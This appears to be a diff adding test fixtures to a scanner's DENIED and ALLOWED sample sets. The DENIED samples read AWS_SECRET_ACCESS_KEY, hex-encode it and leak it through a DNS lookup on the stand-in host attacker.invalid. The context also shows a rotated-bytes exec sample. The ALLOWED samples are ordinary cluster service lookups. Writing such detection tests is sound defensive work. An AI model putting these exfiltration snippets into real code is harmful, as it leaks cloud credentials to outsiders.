@@ -115,6 +115,25 @@ DENIED: dict[str, dict[str, str]] = {
         "    t = os.environ['GITHUB_TOKEN']\n"
         "    socket.getaddrinfo('{}.{}'.format(t, DOMAIN), 53)\n"
     ),
+    "secret-in-a-dns-name-by-a-keyword-field-when-called": init(
+        "import os, socket\n"
+        "def ping():\n"
+        "    k = os.environ['AWS_SECRET_ACCESS_KEY'].encode().hex()\n"
+        "    socket.gethostbyname('{k}.x.attacker.invalid'.format(k=k))\n"
+    ),
+    "dns-name-built-by-format-into-a-variable-when-called": init(
+        "import os, socket\n"
+        "def ping():\n"
+        "    k = os.environ['AWS_SECRET_ACCESS_KEY'].encode().hex()\n"
+        "    name = '{}.x.attacker.invalid'.format(k)\n"
+        "    socket.gethostbyname(name)\n"
+    ),
+    "dns-name-built-by-percent-into-a-variable-when-called": init(
+        "import os, socket\n"
+        "def ping():\n"
+        "    name = '%s.x.attacker.invalid' % os.environ['AWS_SECRET_ACCESS_KEY'].encode().hex()\n"
+        "    socket.gethostbyname(name)\n"
+    ),
     # 3. Home-made ciphers the fold did not undo.
     "bytes-rotated-then-run": init(
         f"B = {ROTATED!r}\nexec(bytes(((b >> 3) | (b << 5)) & 0xFF for b in B))\n"
@@ -331,6 +350,18 @@ ALLOWED: dict[str, dict[str, str]] = {
         "def service_ip():\n"
         "    name = os.environ['SERVICE_NAME']\n"
         "    return socket.gethostbyname('{}.svc.cluster.local'.format(name))\n"
+    ),
+    "service-name-and-namespace-formatted-into-a-variable": init(
+        "import os, socket\n"
+        "def service_ip():\n"
+        "    name = '{}.{}.svc.cluster.local'.format(os.getenv('SVC'), os.getenv('NAMESPACE'))\n"
+        "    return socket.gethostbyname(name)\n"
+    ),
+    "service-name-by-a-keyword-field": init(
+        "import os, socket\n"
+        "def service_ip():\n"
+        "    n = os.environ.get('SERVICE_NAME', 'api')\n"
+        "    return socket.gethostbyname('{name}.svc.cluster.local'.format(name=n))\n"
     ),
     "callers-host-formatted-by-percent": init(
         "import socket\n"
